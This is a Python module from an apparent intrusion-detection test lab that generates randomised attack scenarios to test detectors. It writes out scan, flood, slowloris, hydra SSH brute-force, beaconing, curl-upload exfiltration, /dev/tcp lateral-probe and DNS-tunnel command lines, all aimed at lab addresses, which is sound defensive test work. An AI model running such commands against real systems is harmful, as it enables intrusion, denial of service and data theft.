"""Randomised attack families (issue 14 item 7): each family draws its tool or mode, timing,
ports, targets, domains, counts and jitter from a seeded random.Random per run, and returns a
Scenario like the fixed ones in scenarios.py (which stay as regression cases). The seed is
WATCHKEEPER_LAB_SEED (printed by the test), so a failing draw can be replayed exactly.

Each family has its own attacker namespace (r-*); its address is drawn per round too
(`draw_addresses`), inside 10.77.0.0/16 or "outside" in 203.0.113.0/24 as the family allows.
"""
from __future__ import annotations

import base64
import random
import shlex

from .scenarios import SCAN_DEADLINE, Scenario, _ip, _sh

SERVER_NAMES = ("web", "ssh", "dns", "backup", "files")
INTERNAL_NAMES = (*SERVER_NAMES, "c1", "c2", "c3")
SSH_SERVERS = ("ssh", "web", "dns", "backup", "files")     # sshd runs on these (conftest)
TCP_PORTS = (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521,
             2049, 3306, 3389, 5432, 5900, 5985, 6379, 8000, 8080, 8443, 9200, 11211, 27017)
UDP_PORTS = (53, 67, 69, 111, 123, 137, 161, 162, 500, 514, 520, 1434, 1900, 4500, 5353, 11211)

# family -> (attacker namespaces, where its address may come from)
ATTACKER_SIDES = {"r-scan": "either", "r-dos1": "outside", "r-dos2": "outside",
                  "r-dos3": "outside", "r-brute": "outside", "r-beacon": "inside",
                  "r-exfil": "inside", "r-lateral": "inside", "r-tunnel": "inside",
                  "r-dga": "inside"}
# build-time addresses (re-drawn per round by draw_addresses; the namespaces are readdressed)
FAMILY_ATTACKERS = {name: (f"10.77.9.{10 + i}" if side == "inside" else f"203.0.113.{200 + i}")
                    for i, (name, side) in enumerate(ATTACKER_SIDES.items())}


def draw_addresses(rng: random.Random, used: set[str]) -> dict[str, str]:
    """A fresh address per attacker namespace for one round, none used in an earlier round
    (`used` grows) and never a benign host's or a fixed scenario's: 10.77.4-8.x inside,
    203.0.113.100-199 outside (ten rounds at most per session)."""
    inside = [f"10.77.{n // 256}.{n % 256}" for n in range(4 * 256 + 1, 9 * 256 - 1)]
    outside = [f"203.0.113.{n}" for n in range(100, 200)]
    out = {}
    for name, side in ATTACKER_SIDES.items():
        if side == "either":
            side = rng.choice(("inside", "outside"))
        pool = inside if side == "inside" else outside
        out[name] = rng.choice([ip for ip in pool if ip not in used])
        used.add(out[name])
    return out


def _encode(rng: random.Random, how: str, nbytes: int) -> str:
    data = rng.randbytes(nbytes)
    if how == "hex":
        return data.hex()
    return base64.b32encode(data).decode().rstrip("=").lower()


# ---- families: draw(rng) -> Scenario --------------------------------------------------------
def scan(rng: random.Random) -> Scenario:
    tool = rng.choice(("nmap-sS", "nmap-sT", "nmap-sU", "masscan"))
    targets = rng.sample(SERVER_NAMES, rng.randint(2, 5))
    timing = rng.choice(("-T3", "-T4"))
    if tool == "masscan":
        ports = ",".join(map(str, sorted(rng.sample(TCP_PORTS, rng.randint(4, 8)))))
        rate = rng.randint(200, 500)
        desc = f"masscan 10.77.1.0/24 -p {ports} --rate {rate}"

        def launch(r, s):
            return [_sh(r, s.attackers[0], s.id,
                        f"masscan 10.77.1.0/24 -p {ports} --rate {rate} -e eth0 "
                        "--router-mac ff-ff-ff-ff-ff-ff --wait 2")]
    else:
        pool = UDP_PORTS if tool == "nmap-sU" else TCP_PORTS
        ports = ",".join(map(str, sorted(rng.sample(pool, rng.randint(10, len(pool))))))
        flag = tool.split("-")[1]
        desc = f"nmap -{flag} {timing} -p {ports} on {','.join(targets)}"

        def launch(r, s):
            ips = " ".join(_ip(r, h) for h in targets)
            return [_sh(r, s.attackers[0], s.id,
                        f"nmap -{flag} {timing} -n -Pn -p {ports} --max-retries 1 "
                        f"--host-timeout 40s -e eth0 {ips}")]
    return Scenario("scan", desc, "scan", ["r-scan"], launch, deadline=SCAN_DEADLINE,
                    max_runtime=45)


def dos(rng: random.Random, modes: tuple[str, ...] = ("syn", "udp", "slowloris")) -> Scenario:
    mode = rng.choice(modes)
    if mode == "slowloris":
        conns, rate = rng.randint(300, 450), rng.randint(80, 130)
        victim = rng.choice(("web", "files"))
        desc = f"slowhttptest -c {conns} -r {rate} against {victim}"

        def launch(r, s):
            return [_sh(r, s.attackers[0], s.id,
                        f"slowhttptest -H -c {conns} -r {rate} -i 10 -x 24 -p 3 -l 45 -t GET "
                        f"-u http://{_ip(r, s.victim)}/ -o {r.lab.workdir}/slowhttp-r")]
        return Scenario("dos", desc, "dos", ["r-dos1"], launch, victim=victim, max_runtime=60)
    sources = ["r-dos1", "r-dos2", "r-dos3"][:rng.randint(2, 3)]
    count = rng.randint(10_000, 15_000)
    if mode == "syn":
        victim, port, extra = rng.choice(("web", "files")), 80, "-S"
    else:
        victim, port = rng.choice(("backup", "files")), rng.randint(1024, 60_000)
        extra = f"--udp -d {rng.choice((128, 256, 512))}"
    desc = f"hping3 {extra} -p {port} x{count} from {len(sources)} sources to {victim}"

    def launch(r, s):
        return [_sh(r, h, f"{s.id}-{h}",
                    f"hping3 -q {extra} -p {port} --faster -c {count} {_ip(r, s.victim)}")
                for h in s.attackers]
    return Scenario("dos", desc, "dos", sources, launch, victim=victim, max_runtime=60,
                    ok_exit=(0, 1))


def brute_force(rng: random.Random) -> Scenario:
    users = rng.sample(["root", "admin", "oracle", "test", "ubuntu", "git", "postgres"],
                       rng.randint(2, 4))
    words = [f"{rng.getrandbits(40):x}" for _ in range(rng.randint(10, 16))]
    threads = rng.randint(2, 4)
    desc = f"hydra ssh -t {threads}, {len(users)} users x {len(words)} passwords"

    def launch(r, s):
        d = r.lab.workdir
        (d / "r-users.txt").write_text("\n".join(users) + "\n")
        (d / "r-words.txt").write_text("\n".join(words) + "\n")
        return [_sh(r, s.attackers[0], s.id,
                    f"hydra -I -L {d}/r-users.txt -P {d}/r-words.txt -t {threads} -w 10 "
                    f"-o {d}/r-hydra.out ssh://{_ip(r, 'ssh')}")]
    return Scenario("brute_force", desc, "brute_force", ["r-brute"], launch, max_runtime=70,
                    ok_exit=(0, 255))


def beacon(rng: random.Random) -> Scenario:
    period, jitter = rng.uniform(1.5, 3.0), rng.uniform(0.0, 0.25)
    server = rng.choice(("xweb", "xsite"))
    token = f"{rng.getrandbits(32):08x}"
    path = rng.choice(("/beacon", "/", "/index.html"))
    sleeps = [round(period * rng.uniform(1 - jitter, 1 + jitter), 2) for _ in range(30)]
    desc = f"curl every {period:.2f} s +-{jitter:.0%} to {server}{path}"

    def launch(r, s):
        url = f"http://{_ip(r, server)}{path}?id={token}"
        loop = "; ".join(f"curl -s -m 3 -o /dev/null '{url}&n={i}'; sleep {sl}"
                         for i, sl in enumerate(sleeps))
        return [_sh(r, s.attackers[0], s.id, loop)]
    return Scenario("beaconing", desc, "beaconing", ["r-beacon"], launch, max_runtime=75)


def exfiltration(rng: random.Random) -> Scenario:
    mib, rate = rng.randint(60, 100), rng.randint(10, 14)
    name = f"{rng.choice(('db', 'hr', 'mail', 'crm'))}-{rng.getrandbits(24):06x}.bin"
    desc = f"curl -T {mib} MiB at {rate} MB/s to xweb/upload/{name}"

    def launch(r, s):
        blob = r.lab.workdir / f"r-exfil-{mib}.bin"
        if not blob.exists():
            blob.write_bytes(random.Random(mib).randbytes(mib << 20))
        return [_sh(r, s.attackers[0], s.id,
                    f"curl -s -S -m 70 --limit-rate {rate}M -o /dev/null -T {blob} "
                    f"http://{_ip(r, 'xweb')}/upload/{name}")]
    return Scenario("exfiltration", desc, "exfiltration", ["r-exfil"], launch, max_runtime=70)


def lateral(rng: random.Random) -> Scenario:
    # Lateral movement is sessions that are answered: the lab's servers answer ssh only, so
    # 22 is always among the services tried (probing closed ports alone is a scan, and the
    # scan detector names it), on at least two ssh servers.
    ports = [22, *rng.sample((135, 445, 3389, 5985, 5986), rng.randint(0, 3))]
    targets = rng.sample(SSH_SERVERS, rng.randint(2, 5))
    targets += rng.sample([h for h in INTERNAL_NAMES if h not in targets], rng.randint(0, 3))
    rng.shuffle(targets)
    mode, gap = rng.choice(("tcp-connect", "ssh-login")), round(rng.uniform(0.1, 0.5), 2)
    desc = f"{mode} to {ports} on {','.join(targets)}, {gap} s apart"

    def launch(r, s):
        probes = [f"{_ip(r, t)} {p}" for t in targets for p in ports]
        ssh = ("timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no "
               "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -p $2 admin@$1 true")
        tcp = "timeout 2 bash -c \"exec 3<>/dev/tcp/$1/$2\""
        step = ssh if mode == "ssh-login" else tcp
        script = ("for tp in " + " ".join(shlex.quote(p) for p in probes) + "; do set -- $tp; "
                  f"{step} >/dev/null 2>&1; sleep {gap}; done; true")
        return [_sh(r, s.attackers[0], s.id, script)]
    return Scenario("lateral_movement", desc, "lateral_movement", ["r-lateral"], launch,
                    max_runtime=40)


def dns_tunnel(rng: random.Random) -> Scenario:
    from .services import TUNNEL_ZONE
    how, qtype = rng.choice(("hex", "base32")), rng.choice(("TXT", "A", "CNAME", "MX"))
    count, nbytes = rng.randint(150, 300), rng.randint(16, 30)
    burst, pause = rng.randint(10, 25), round(rng.uniform(0.5, 1.5), 2)
    labels = [_encode(rng, how, nbytes) for _ in range(count)]
    desc = f"{count} {qtype} queries, {how} labels of {nbytes} bytes, {burst}/burst, {pause} s"

    def launch(r, s):
        queries = [f"{lab}.{n:04x}.{TUNNEL_ZONE} {qtype}" for n, lab in enumerate(labels)]
        return [_sh(r, s.attackers[0], s.id, _dig_bursts(r, "r-tunnel", queries, burst, pause))]
    return Scenario("dns_tunneling", desc, "dns_tunneling", ["r-tunnel"], launch,
                    max_runtime=45)


def dga(rng: random.Random) -> Scenario:
    letters = "abcdefghijklmnopqrstuvwxyz"
    tlds = rng.sample(["com", "net", "info", "biz", "xyz", "top", "ru", "org"], rng.randint(1, 4))
    lo = rng.randint(10, 14)
    count, burst = rng.randint(100, 150), rng.randint(10, 20)
    names = ["".join(rng.choice(letters) for _ in range(rng.randint(lo, lo + 8))) + "." +
             rng.choice(tlds) for _ in range(count)]
    desc = f"{count} lookups, {lo}-{lo + 8} letters, .{'/.'.join(tlds)}, {burst}/s"

    def launch(r, s):
        queries = [f"{n} A" for n in names]
        return [_sh(r, s.attackers[0], s.id, _dig_bursts(r, "r-dga", queries, burst, 1))]
    return Scenario("dga", desc, "dga", ["r-dga"], launch, max_runtime=40)


def _dig_bursts(r, name: str, queries: list[str], burst: int, pause: float) -> str:
    """A shell line asking the lab's resolver `burst` queries at a time (`dig -f` batch files
    in the lab's workdir, never the query text on a command line), `pause` s apart."""
    resolver, parts = _ip(r, "dns"), []
    for i in range(0, len(queries), burst):
        part = r.lab.workdir / f"{name}.{i}"
        part.write_text("\n".join(f"@{resolver} +tries=1 +time=1 +short {q}"
                                  for q in queries[i:i + burst]) + "\n")
        parts.append(f"dig -f {part} >/dev/null; sleep {pause}")
    return "; ".join(parts)


FAMILIES = {"scan": scan, "dos": dos, "brute_force": brute_force, "beaconing": beacon,
            "exfiltration": exfiltration, "lateral_movement": lateral,
            "dns_tunneling": dns_tunnel, "dga": dga}
